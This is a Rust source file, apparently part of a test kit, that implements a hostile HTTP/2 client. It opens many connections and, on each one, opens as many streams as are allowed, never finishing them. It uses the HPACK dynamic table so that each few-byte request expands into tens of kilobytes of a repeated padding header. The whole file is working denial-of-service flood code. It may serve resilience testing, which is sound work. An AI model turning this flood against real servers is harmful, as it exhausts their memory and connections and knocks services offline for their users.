//! A client that means harm: many HTTP/2 connections, on each as many requests as it may open, each of a few bytes that
//! mean tens of kilobytes, and none of them ever finished. What is answered is opened anew.
//! Never reads an answer: only whether there is one.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use testkit::http2::flag::{END_HEADERS, END_STREAM};
use testkit::http2::hpack::{REMEMBERED, literal, remembered};
use testkit::http2::kind::{DATA, GOAWAY, HEADERS, SETTINGS};
use testkit::http2::{self, PREFACE, frame};

/// Fits the peer's table of 4096 bytes, with the 32 that each entry costs.
const VALUE: usize = 3900;
const NAME: &[u8] = b"x-padding";

/// What one request looks like.
pub struct Shape<'a> {
    pub headers: &'a http2::Headers<'a>,
    /// How often the long header is in it.
    pub repeats: usize,
    /// Requests at a time on one connection.
    pub streams: usize,
}

/// What became of it.
#[derive(Debug, Default)]
pub struct Sent {
    pub requests: u64,
    /// Ended by the edge, in whatever way.
    pub ended: u64,
    pub bytes: u64,
}

struct Attacker {
    stream: TcpStream,
    next: u32,
    open: usize,
    inbox: Vec<u8>,
    outbox: Vec<u8>,
    lost: bool,
}

/// Floods `addr` until `over`.
pub fn flood(addr: SocketAddr, connections: usize, shape: &Shape<'_>, over: Instant) -> Sent {
    let mut sent = Sent::default();
    let mut attackers: Vec<_> = (0..connections)
        .map(|_| Attacker::open(addr, shape, &mut sent))
        .collect();
    while Instant::now() < over {
        for attacker in &mut attackers {
            attacker.receive(&mut sent);
            if attacker.lost {
                *attacker = Attacker::open(addr, shape, &mut sent);
            }
            attacker.fill(shape, &mut sent);
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    sent
}

impl Attacker {
    fn open(addr: SocketAddr, shape: &Shape<'_>, sent: &mut Sent) -> Self {
        let stream = TcpStream::connect(addr).unwrap();
        stream.set_nodelay(true).unwrap();
        let mut attacker = Self {
            stream,
            next: 1,
            open: 0,
            inbox: Vec::new(),
            outbox: Vec::new(),
            lost: false,
        };
        attacker.stream.set_nonblocking(true).unwrap();
        attacker.outbox.extend(PREFACE);
        attacker.outbox.extend(frame(SETTINGS, 0, 0, &[]));
        // The first request has the long header once, and teaches it to the peer.
        let mut block = literal(shape.headers);
        block.extend(remembered(NAME, &[b'x'; VALUE]));
        attacker.begin(&block);
        attacker.send(sent);
        attacker
    }

    fn begin(&mut self, block: &[u8]) {
        self.outbox
            .extend(frame(HEADERS, END_HEADERS, self.next, block));
        self.next += 2;
        self.open += 1;
    }

    /// Opens as many requests as may be open.
    fn fill(&mut self, shape: &Shape<'_>, sent: &mut Sent) {
        let mut block = literal(shape.headers);
        block.extend(vec![REMEMBERED; shape.repeats]);
        while self.open < shape.streams {
            self.begin(&block);
            sent.requests += 1;
        }
        self.send(sent);
    }

    fn send(&mut self, sent: &mut Sent) {
        match self.stream.write(&self.outbox) {
            Ok(size) => {
                self.outbox.drain(..size);
                sent.bytes += u64::try_from(size).unwrap();
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(_) => self.lost = true,
        }
    }

    fn receive(&mut self, sent: &mut Sent) {
        let mut piece = [0; 65_536];
        loop {
            match self.stream.read(&mut piece) {
                Ok(0) => self.lost = true,
                Ok(size) => {
                    self.inbox.extend(&piece[..size]);
                    continue;
                }
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => self.lost = true,
            }
            break;
        }
        let mut rest = &self.inbox[..];
        while rest.len() >= 9 {
            let length =
                usize::from(rest[0]) << 16 | usize::from(rest[1]) << 8 | usize::from(rest[2]);
            let Some((frame, after)) = rest.split_at_checked(9 + length) else {
                break;
            };
            let (kind, flags) = (frame[3], frame[4]);
            // An answer ends with its last DATA; a request that is not taken, with RST_STREAM alone, and is not opened
            // anew.
            if matches!(kind, DATA | HEADERS) && flags & END_STREAM != 0 {
                self.open -= 1;
                sent.ended += 1;
            }
            self.lost |= kind == GOAWAY;
            rest = after;
        }
        self.inbox = rest.to_vec();
    }
}
